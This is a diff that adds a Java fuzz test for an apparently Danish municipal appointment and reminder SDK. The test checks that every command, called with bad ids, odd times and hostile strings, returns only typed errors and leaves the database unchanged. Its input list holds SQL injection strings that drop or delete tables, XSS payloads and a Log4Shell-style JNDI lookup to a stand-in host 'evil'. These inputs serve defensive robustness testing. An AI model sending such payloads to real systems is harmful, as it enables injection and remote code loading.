@@ -1,0 +1,729 @@
+package dk.borgerdialog.reliability;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dk.borgerdialog.Borgerdialog;
+import dk.borgerdialog.Session;
+import dk.borgerdialog.access.Actor;
+import dk.borgerdialog.access.AssuranceLevel;
+import dk.borgerdialog.citizen.model.CitizenId;
+import dk.borgerdialog.citizen.model.CprNumber;
+import dk.borgerdialog.common.AccessDeniedException;
+import dk.borgerdialog.common.ConflictException;
+import dk.borgerdialog.common.ExternalRef;
+import dk.borgerdialog.common.InvalidInputException;
+import dk.borgerdialog.common.Language;
+import dk.borgerdialog.common.NoSuchEntityException;
+import dk.borgerdialog.common.SettableClock;
+import dk.borgerdialog.common.UnableToChangeException;
+import dk.borgerdialog.notification.model.ChannelKind;
+import dk.borgerdialog.organisation.model.BookingRules;
+import dk.borgerdialog.organisation.model.CentreId;
+import dk.borgerdialog.organisation.model.ChangeDeadline;
+import dk.borgerdialog.organisation.model.MunicipalityId;
+import dk.borgerdialog.organisation.model.StaffMemberId;
+import dk.borgerdialog.organisation.model.StaffRole;
+import dk.borgerdialog.organisation.model.UnitId;
+import dk.borgerdialog.organisation.model.UnitRole;
+import dk.borgerdialog.plan.application.BookAppointmentCommand;
+import dk.borgerdialog.plan.application.CancelAppointmentCommand;
+import dk.borgerdialog.plan.application.MoveAppointmentCommand;
+import dk.borgerdialog.plan.application.PublishFreeSlotCommand;
+import dk.borgerdialog.plan.application.StatePreferenceCommand;
+import dk.borgerdialog.plan.application.WritePlanItemCommand;
+import dk.borgerdialog.plan.model.AppointmentId;
+import dk.borgerdialog.plan.model.AppointmentMode;
+import dk.borgerdialog.plan.model.AppointmentType;
+import dk.borgerdialog.plan.model.CancellationReason;
+import dk.borgerdialog.plan.model.CancellationReasonCode;
+import dk.borgerdialog.plan.model.CourseId;
+import dk.borgerdialog.plan.model.CourseKind;
+import dk.borgerdialog.plan.model.CourseState;
+import dk.borgerdialog.plan.model.CourseTemplateId;
+import dk.borgerdialog.plan.model.FreeSlot;
+import dk.borgerdialog.plan.model.FreeSlotId;
+import dk.borgerdialog.plan.model.PlanItem;
+import dk.borgerdialog.plan.model.PlanItemId;
+import dk.borgerdialog.plan.model.PlanItemKind;
+import dk.borgerdialog.plan.model.PreferenceKind;
+import dk.borgerdialog.reliability.support.Databases;
+import dk.borgerdialog.reliability.support.Figures;
+import dk.borgerdialog.reliability.support.LogLeaks;
+import dk.borgerdialog.reliability.support.SchemaFingerprint;
+import dk.borgerdialog.reliability.support.Seed;
+import dk.borgerdialog.reminder.model.ContactPreferences;
+import dk.borgerdialog.reminder.model.QuietHours;
+import dk.borgerdialog.reminder.model.ReminderId;
+import dk.borgerdialog.reminder.model.ReminderPolicy;
+import java.sql.Connection;
+import java.sql.ResultSet;
+import java.sql.SQLException;
+import java.sql.Statement;
+import java.time.Duration;
+import java.time.Instant;
+import java.time.LocalTime;
+import java.time.ZoneId;
+import java.util.ArrayList;
+import java.util.EnumMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.UUID;
+import java.util.concurrent.atomic.AtomicInteger;
+import java.util.function.Function;
+import javax.sql.DataSource;
+import net.jqwik.api.Arbitraries;
+import net.jqwik.api.Arbitrary;
+import net.jqwik.api.Combinators;
+import net.jqwik.api.EdgeCasesMode;
+import net.jqwik.api.ForAll;
+import net.jqwik.api.Property;
+import net.jqwik.api.Provide;
+import net.jqwik.api.ShrinkingMode;
+import net.jqwik.api.lifecycle.AfterContainer;
+import net.jqwik.api.lifecycle.BeforeContainer;
+import org.jspecify.annotations.Nullable;
+
+/**
+ * Every SDK command, called as any actor with hostile strings, wrong ids, other tenants' ids,
+ * invalid CPR numbers and odd times: only typed errors come back, and a refused command leaves
+ * every table of the schema as it was (a refusal of access adds exactly one audit record).
+ */
+class FuzzIT {
+  static final int TRIES = 10_000;
+
+  /** The typed errors a caller may get for bad input. */
+  static final Set<Class<? extends RuntimeException>> TYPED =
+      Set.of(
+          InvalidInputException.class,
+          AccessDeniedException.class,
+          NoSuchEntityException.class,
+          ConflictException.class,
+          UnableToChangeException.class);
+
+  record Call(String name, Function<Session, @Nullable Object> run) {
+    @Override
+    public String toString() {
+      return name;
+    }
+  }
+
+  /** What one tenant holds. */
+  record Tenant(
+      Seed seed,
+      CentreId centre,
+      CitizenId citizen,
+      CourseId course,
+      AppointmentId appointment,
+      PlanItemId planItem,
+      FreeSlotId slot,
+      List<UUID> ids) {}
+
+  static Borgerdialog dialog;
+  static DataSource database;
+  static SchemaFingerprint fingerprint;
+  static Map<String, String> last;
+  static Tenant own;
+  static Tenant other;
+  static final Map<Outcome, AtomicInteger> OUTCOMES = new EnumMap<>(Outcome.class);
+  static final Map<String, AtomicInteger> PER_COMMAND = new java.util.TreeMap<>();
+  static long began;
+
+  enum Outcome {
+    ACCEPTED,
+    INVALID_INPUT,
+    ACCESS_DENIED,
+    NO_SUCH_ENTITY,
+    CONFLICT,
+    UNABLE_TO_CHANGE
+  }
+
+  @BeforeContainer
+  static void seed() {
+    LogLeaks.start();
+    database = Databases.freshH2();
+    SettableClock clock = SettableClock.at("2026-11-22T19:00", "Europe/Copenhagen");
+    dialog =
+        Borgerdialog.builder().dataSource(database).clock(clock).dispatchReminders(false).start();
+    own = tenant("Københavns Kommune", clock);
+    other = tenant("Frederiksberg Kommune", clock);
+    fingerprint = new SchemaFingerprint(database, Set.of("audit_record"));
+    last = fingerprint.take();
+    for (Outcome outcome : Outcome.values()) {
+      OUTCOMES.put(outcome, new AtomicInteger());
+    }
+    began = System.nanoTime();
+  }
+
+  private static Tenant tenant(String name, SettableClock clock) {
+    Seed seed = Seed.organisation(dialog, name, ReminderPolicy.DEFAULT);
+    Seed.Booked citizen =
+        seed.book(
+            seed.citizen(
+                name + "-1",
+                CprNumber.parse("0101901234"),
+                List.of(ChannelKind.SMS, ChannelKind.IN_APP),
+                null,
+                "+4520000001"),
+            clock.instant().plus(Duration.ofDays(5)));
+    PlanItem item =
+        seed.staffPlan()
+            .writePlanItem(
+                new WritePlanItemCommand(citizen.course().id(), PlanItemKind.GOAL, "Et mål"));
+    FreeSlot slot =
+        seed.staffPlan()
+            .publishFreeSlot(
+                new PublishFreeSlotCommand(
+                    seed.unit(),
+                    Seed.CONVERSATION,
+                    seed.caseworker(),
+                    clock.instant().plus(Duration.ofDays(7)),
+                    clock.instant().plus(Duration.ofDays(7)).plus(Duration.ofHours(1)),
+                    AppointmentMode.phone()));
+    CentreId centre =
+        dialog.setup().createCentre(seed.municipality().id(), "Borgercenter Syd").id();
+    List<UUID> ids =
+        List.of(
+            seed.municipality().id().value(),
+            centre.value(),
+            seed.unit().value(),
+            seed.caseworker().value(),
+            seed.template().value(),
+            citizen.citizen().value(),
+            citizen.course().id().value(),
+            citizen.appointment().id().value(),
+            item.id().value(),
+            slot.id().value());
+    return new Tenant(
+        seed,
+        centre,
+        citizen.citizen(),
+        citizen.course().id(),
+        citizen.appointment().id(),
+        item.id(),
+        slot.id(),
+        ids);
+  }
+
+  @AfterContainer
+  static void report() {
+    int total = OUTCOMES.values().stream().mapToInt(AtomicInteger::get).sum();
+    Figures.record(
+        "fuzz",
+        "%d cases over %d commands in %d s (H2); outcomes %s; per command %s; tables compared"
+            + " after every refusal: %d",
+        total,
+        PER_COMMAND.size(),
+        Duration.ofNanos(System.nanoTime() - began).toSeconds(),
+        OUTCOMES,
+        PER_COMMAND,
+        fingerprint.tables().size());
+    dialog.close();
+    LogLeaks.verify("FuzzIT");
+  }
+
+  @Property(
+      tries = TRIES,
+      shrinking = ShrinkingMode.OFF,
+      edgeCases = EdgeCasesMode.NONE,
+      seed = "20261123")
+  void only_typed_errors_and_a_refusal_changes_nothing(
+      @ForAll("actors") Actor actor, @ForAll("calls") Call call) throws SQLException {
+    int refusalsBefore = refusals();
+    Object result;
+    try {
+      result = call.run().apply(dialog.as(actor));
+    } catch (RuntimeException e) {
+      result = e;
+    }
+    PER_COMMAND.computeIfAbsent(call.name(), k -> new AtomicInteger()).incrementAndGet();
+    Map<String, String> now = fingerprint.take();
+    if (result instanceof RuntimeException e) {
+      assertThat(TYPED)
+          .as("%s as %s threw %s", call, actor, e)
+          .anyMatch(type -> type.isInstance(e));
+      assertThat(now)
+          .as("%s as %s refused with %s, but changed the database", call, actor, e)
+          .isEqualTo(last);
+      assertThat(refusals() - refusalsBefore)
+          .as("audit records of refusals after %s", e)
+          .isEqualTo(e instanceof AccessDeniedException ? 1 : 0);
+      OUTCOMES.get(outcome(e)).incrementAndGet();
+    } else {
+      assertThat(refusals()).isEqualTo(refusalsBefore);
+      OUTCOMES.get(Outcome.ACCEPTED).incrementAndGet();
+    }
+    last = now;
+  }
+
+  private static Outcome outcome(RuntimeException e) {
+    if (e instanceof InvalidInputException) {
+      return Outcome.INVALID_INPUT;
+    } else if (e instanceof AccessDeniedException) {
+      return Outcome.ACCESS_DENIED;
+    } else if (e instanceof NoSuchEntityException) {
+      return Outcome.NO_SUCH_ENTITY;
+    } else if (e instanceof ConflictException) {
+      return Outcome.CONFLICT;
+    }
+    return Outcome.UNABLE_TO_CHANGE;
+  }
+
+  private static int refusals() throws SQLException {
+    try (Connection connection = database.getConnection();
+        Statement statement = connection.createStatement();
+        ResultSet rows =
+            statement.executeQuery(
+                "SELECT COUNT(*) FROM borgerdialog.audit_record WHERE allowed = FALSE")) {
+      rows.next();
+      return rows.getInt(1);
+    }
+  }
+
+  // ---- generators ----
+
+  @Provide
+  Arbitrary<Actor> actors() {
+    Arbitrary<AssuranceLevel> level = Arbitraries.of(AssuranceLevel.class);
+    return Arbitraries.oneOf(
+        level.map(l -> Actor.citizen(own.citizen(), l)),
+        level.map(l -> Actor.citizen(other.citizen(), l)),
+        level.map(l -> Actor.citizen(new CitizenId(UUID.randomUUID()), l)),
+        level.map(l -> Actor.staff(own.seed().caseworker(), l)),
+        level.map(l -> Actor.staff(other.seed().caseworker(), l)),
+        level.map(l -> Actor.staff(new StaffMemberId(UUID.randomUUID()), l)),
+        Arbitraries.just(Actor.system("fuzz")));
+  }
+
+  static Arbitrary<@Nullable String> hostile() {
+    return Arbitraries.frequencyOf(
+        net.jqwik.api.Tuple.of(
+            3,
+            Arbitraries.of(
+                "",
+                " ",
+                "\t\n",
+                "\u0000",
+                "a\u0000b",
+                "\u0007\u001b[31mred",
+                "'; DROP TABLE borgerdialog.citizen; --",
+                "Robert'); DELETE FROM borgerdialog.appointment; --",
+                "' OR '1'='1",
+                "<script>alert('x')</script>",
+                "<img src=x onerror=alert(1)>",
+                "{{#x}}{{/x}}{{{body}}}",
+                "${jndi:ldap://evil/x}",
+                "%s%s%n%d",
+                "😀🏳️‍🌈👨‍👩‍👧",
+                "\u202Eevil.exe\u202C",
+                "مرحبا بالعالم",
+                "שלום",
+                "\uD800",
+                "\uFEFFbom",
+                "0101901234",
+                "x".repeat(2001),
+                "y".repeat(100_000),
+                "Jonas Berg")),
+        net.jqwik.api.Tuple.of(3, Arbitraries.strings().all().ofMaxLength(300)),
+        net.jqwik.api.Tuple.of(
+            1, Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMaxLength(20)),
+        net.jqwik.api.Tuple.of(2, Arbitraries.strings().alpha().numeric().ofMaxLength(60)),
+        net.jqwik.api.Tuple.of(1, Arbitraries.just((String) null)));
+  }
+
+  static Arbitrary<@Nullable UUID> ids() {
+    List<UUID> known = new ArrayList<>(own.ids());
+    known.addAll(other.ids());
+    return Arbitraries.frequencyOf(
+        net.jqwik.api.Tuple.of(6, Arbitraries.of(known)),
+        net.jqwik.api.Tuple.of(2, Arbitraries.create(UUID::randomUUID)),
+        net.jqwik.api.Tuple.of(1, Arbitraries.just(new UUID(0, 0))),
+        net.jqwik.api.Tuple.of(1, Arbitraries.just((UUID) null)));
+  }
+
+  static Arbitrary<@Nullable Instant> times() {
+    Instant now = Instant.parse("2026-11-22T18:00:00Z");
+    return Arbitraries.frequencyOf(
+        net.jqwik.api.Tuple.of(
+            2,
+            Arbitraries.of(
+                Instant.EPOCH,
+                Instant.parse("0001-01-01T00:00:00Z"),
+                Instant.parse("9999-12-31T23:59:59Z"),
+                Instant.parse("2026-03-29T01:30:00Z"),
+                Instant.parse("2026-10-25T00:30:00Z"),
+                Instant.parse("2026-10-25T01:30:00Z"),
+                now,
+                now.minusSeconds(1))),
+        net.jqwik.api.Tuple.of(
+            5,
+            Arbitraries.longs()
+                .between(-400L * 24 * 60, 800L * 24 * 60)
+                .map(m -> now.plus(Duration.ofMinutes(m)))),
+        net.jqwik.api.Tuple.of(1, Arbitraries.just((Instant) null)));
+  }
+
+  static Arbitrary<Long> versions() {
+    return Arbitraries.oneOf(
+        Arbitraries.longs().between(0, 3), Arbitraries.of(-1L, Long.MAX_VALUE, Long.MIN_VALUE));
+  }
+
+  static <T> Arbitrary<@Nullable T> orNull(Arbitrary<T> values) {
+    return Arbitraries.frequencyOf(
+        net.jqwik.api.Tuple.of(9, values), net.jqwik.api.Tuple.of(1, Arbitraries.just((T) null)));
+  }
+
+  static <T> T id(@Nullable UUID uuid, Function<UUID, T> type) {
+    return uuid == null ? null : type.apply(uuid);
+  }
+
+  @Provide
+  Arbitrary<Call> calls() {
+    Arbitrary<String> s = hostile();
+    Arbitrary<UUID> id = ids();
+    Arbitrary<Instant> t = times();
+    Arbitrary<Long> v = versions();
+    List<Arbitrary<Call>> calls = new ArrayList<>();
+    // setup
+    calls.add(
+        s.map(name -> new Call("createMunicipality", x -> x.setup().createMunicipality(name))));
+    calls.add(
+        Combinators.combine(id, s)
+            .as(
+                (m, name) ->
+                    new Call(
+                        "createCentre",
+                        x -> x.setup().createCentre(id(m, MunicipalityId::new), name))));
+    calls.add(
+        Combinators.combine(id, s, s, Arbitraries.integers().between(-5, 24 * 40))
+            .as(
+                (c, name, pub, hours) ->
+                    new Call(
+                        "createUnit",
+                        x ->
+                            x.setup()
+                                .createUnit(
+                                    id(c, CentreId::new),
+                                    name,
+                                    pub,
+                                    new BookingRules(
+                                        ChangeDeadline.hoursBefore(hours), true, true)))));
+    calls.add(
+        Combinators.combine(id, v, Arbitraries.integers().between(-5, 24 * 40))
+            .as(
+                (u, version, hours) ->
+                    new Call(
+                        "changeBookingRules",
+                        x ->
+                            x.setup()
+                                .changeBookingRules(
+                                    id(u, UnitId::new),
+                                    version,
+                                    new BookingRules(
+                                        ChangeDeadline.hoursBefore(hours), false, true)))));
+    calls.add(
+        Combinators.combine(id, s, s, s, id)
+            .as(
+                (m, system, name, title, unit) ->
+                    new Call(
+                        "addStaffMember",
+                        x ->
+                            x.setup()
+                                .addStaffMember(
+                                    id(m, MunicipalityId::new),
+                                    system == null ? null : ExternalRef.of(system, "S-1"),
+                                    name,
+                                    title,
+                                    List.of(
+                                        new UnitRole(id(unit, UnitId::new), StaffRole.MENTOR))))));
+    calls.add(
+        Combinators.combine(
+                id,
+                s,
+                s,
+                s,
+                s,
+                Arbitraries.of("Europe/Copenhagen", "UTC", "America/Nuuk", "Pacific/Kiritimati"))
+            .as(
+                (m, system, value, cpr, name, zone) ->
+                    new Call(
+                        "registerCitizen",
+                        x ->
+                            x.setup()
+                                .registerCitizen(
+                                    id(m, MunicipalityId::new),
+                                    ExternalRef.of(system, value),
+                                    cpr == null ? null : CprNumber.parse(cpr),
+                                    name,
+                                    Language.DA,
+                                    ZoneId.of(zone)))));
+    calls.add(
+        Combinators.combine(id, s, s)
+            .as(
+                (m, system, value) ->
+                    new Call(
+                        "findCitizen",
+                        x ->
+                            x.setup()
+                                .findCitizen(
+                                    id(m, MunicipalityId::new), ExternalRef.of(system, value)))));
+    calls.add(
+        Combinators.combine(id, s, s)
+            .as(
+                (m, name, description) ->
+                    new Call(
+                        "addCourseTemplate",
+                        x ->
+                            x.setup()
+                                .addCourseTemplate(
+                                    id(m, MunicipalityId::new),
+                                    name,
+                                    CourseKind.COUNSELLING,
+                                    description))));
+    // plan
+    calls.add(id.map(c -> new Call("overview", x -> x.plan().overview(id(c, CitizenId::new)))));
+    calls.add(
+        Combinators.combine(id, s, t, t)
+            .as(
+                (c, type, start, end) ->
+                    new Call(
+                        "book",
+                        x ->
+                            x.plan()
+                                .book(
+                                    BookAppointmentCommand.at(
+                                        id(c, CourseId::new),
+                                        AppointmentType.of(type),
+                                        start,
+                                        end,
+                                        AppointmentMode.inPerson(type),
+                                        List.of())))));
+    calls.add(
+        Combinators.combine(id, v, id)
+            .as(
+                (a, version, slot) ->
+                    new Call(
+                        "moveToSlot",
+                        x ->
+                            x.plan()
+                                .move(
+                                    MoveAppointmentCommand.toSlot(
+                                        id(a, AppointmentId::new),
+                                        version,
+                                        id(slot, FreeSlotId::new))))));
+    calls.add(
+        Combinators.combine(id, v, t, t)
+            .as(
+                (a, version, start, end) ->
+                    new Call(
+                        "moveToTime",
+                        x ->
+                            x.plan()
+                                .move(
+                                    MoveAppointmentCommand.toTime(
+                                        id(a, AppointmentId::new), version, start, end)))));
+    calls.add(
+        Combinators.combine(id, v, s, Arbitraries.of(CancellationReasonCode.class))
+            .as(
+                (a, version, text, code) ->
+                    new Call(
+                        "cancel",
+                        x ->
+                            x.plan()
+                                .cancel(
+                                    new CancelAppointmentCommand(
+                                        id(a, AppointmentId::new),
+                                        version,
+                                        text == null
+                                            ? CancellationReason.of(code)
+                                            : CancellationReason.of(code, text))))));
+    calls.add(
+        Combinators.combine(id, v)
+            .as(
+                (a, version) ->
+                    new Call(
+                        "markAttended",
+                        x -> x.plan().markAttended(id(a, AppointmentId::new), version))));
+    calls.add(
+        Combinators.combine(id, v)
+            .as(
+                (a, version) ->
+                    new Call(
+                        "markNoShow",
+                        x -> x.plan().markNoShow(id(a, AppointmentId::new), version))));
+    calls.add(
+        Combinators.combine(id, s, Arbitraries.of(PlanItemKind.class))
+            .as(
+                (c, text, kind) ->
+                    new Call(
+                        "writePlanItem",
+                        x ->
+                            x.plan()
+                                .writePlanItem(
+                                    new WritePlanItemCommand(id(c, CourseId::new), kind, text)))));
+    calls.add(
+        Combinators.combine(id, v, s)
+            .as(
+                (p, version, text) ->
+                    new Call(
+                        "revisePlanItem",
+                        x -> x.plan().revisePlanItem(id(p, PlanItemId::new), version, text))));
+    calls.add(
+        Combinators.combine(id, s, Arbitraries.of(PreferenceKind.class))
+            .as(
+                (c, text, kind) ->
+                    new Call(
+                        "statePreference",
+                        x ->
+                            x.plan()
+                                .statePreference(
+                                    new StatePreferenceCommand(
+                                        id(c, CourseId::new), kind, text)))));
+    calls.add(
+        id.map(
+            a -> new Call("freeSlotsFor", x -> x.plan().freeSlotsFor(id(a, AppointmentId::new)))));
+    calls.add(
+        Combinators.combine(id, id, t, t, s)
+            .as(
+                (u, staff, start, end, link) ->
+                    new Call(
+                        "publishFreeSlot",
+                        x ->
+                            x.plan()
+                                .publishFreeSlot(
+                                    new PublishFreeSlotCommand(
+                                        id(u, UnitId::new),
+                                        Seed.CONVERSATION,
+                                        id(staff, StaffMemberId::new),
+                                        start,
+                                        end,
+                                        AppointmentMode.video(link))))));
+    calls.add(
+        id.map(
+            f ->
+                new Call(
+                    "withdrawFreeSlot",
+                    x -> {
+                      x.plan().withdrawFreeSlot(id(f, FreeSlotId::new));
+                      return "withdrawn";
+                    })));
+    calls.add(
+        Combinators.combine(id, s, Arbitraries.integers().between(-3, 1000))
+            .as(
+                (u, type, limit) ->
+                    new Call(
+                        "openFreeSlots",
+                        x ->
+                            x.plan()
+                                .openFreeSlots(
+                                    id(u, UnitId::new), AppointmentType.of(type), limit))));
+    calls.add(
+        Combinators.combine(id, id, id)
+            .as(
+                (c, u, template) ->
+                    new Call(
+                        "openCourse",
+                        x ->
+                            x.plan()
+                                .openCourse(
+                                    id(c, CitizenId::new),
+                                    id(u, UnitId::new),
+                                    id(template, CourseTemplateId::new)))));
+    calls.add(
+        Combinators.combine(id, v, orNull(Arbitraries.of(CourseState.class)))
+            .as(
+                (c, version, state) ->
+                    new Call(
+                        "changeCourseState",
+                        x -> x.plan().changeCourseState(id(c, CourseId::new), version, state))));
+    // reminders
+    calls.add(
+        id.map(
+            c ->
+                new Call(
+                    "contactPreferences",
+                    x -> x.reminders().contactPreferences(id(c, CitizenId::new)))));
+    calls.add(
+        Combinators.combine(
+                id,
+                Arbitraries.of(ChannelKind.class).list().ofMaxSize(4),
+                s,
+                s,
+                Arbitraries.integers().between(0, 23),
+                Arbitraries.integers().between(0, 23),
+                v)
+            .as(
+                (c, channels, email, phone, from, to, version) ->
+                    new Call(
+                        "saveContactPreferences",
+                        x ->
+                            x.reminders()
+                                .saveContactPreferences(
+                                    new ContactPreferences(
+                                        id(c, CitizenId::new),
+                                        channels,
+                                        email,
+                                        phone,
+                                        new QuietHours(LocalTime.of(from, 0), LocalTime.of(to, 0)),
+                                        Set.of(),
+                                        version)))));
+    calls.add(
+        id.map(
+            u ->
+                new Call("reminderPolicy", x -> x.reminders().reminderPolicy(id(u, UnitId::new)))));
+    calls.add(
+        Combinators.combine(
+                id,
+                Arbitraries.longs().between(-2, 24 * 40).list().ofMaxSize(7),
+                Arbitraries.of(true, false))
+            .as(
+                (u, hours, critical) ->
+                    new Call(
+                        "setReminderPolicy",
+                        x -> {
+                          x.reminders()
+                              .setReminderPolicy(
+                                  id(u, UnitId::new),
+                                  new ReminderPolicy(
+                                      hours.stream().map(Duration::ofHours).toList(), critical));
+                          return "set";
+                        })));
+    calls.add(
+        id.map(
+            c ->
+                new Call(
+                    "notifications", x -> x.reminders().notifications(id(c, CitizenId::new)))));
+    calls.add(
+        id.map(
+            c ->
+                new Call(
+                    "unreadNotifications",
+                    x -> x.reminders().unreadNotifications(id(c, CitizenId::new)))));
+    calls.add(
+        Combinators.combine(id, id)
+            .as(
+                (c, n) ->
+                    new Call(
+                        "markNotificationRead",
+                        x -> x.reminders().markNotificationRead(id(c, CitizenId::new), n))));
+    calls.add(
+        id.map(u -> new Call("undelivered", x -> x.reminders().undelivered(id(u, UnitId::new)))));
+    calls.add(
+        id.map(
+            r -> new Call("deliveryLog", x -> x.reminders().deliveryLog(id(r, ReminderId::new)))));
+    // insights
+    calls.add(
+        id.map(
+            u ->
+                new Call(
+                    "unmarkedAppointments",
+                    x -> x.insights().unmarkedAppointments(id(u, UnitId::new)))));
+    calls.add(
+        Combinators.combine(id, t, t)
+            .as(
+                (u, from, to) ->
+                    new Call(
+                        "insights", x -> x.insights().insights(id(u, UnitId::new), from, to))));
+    return Arbitraries.oneOf(calls);
+  }
+}
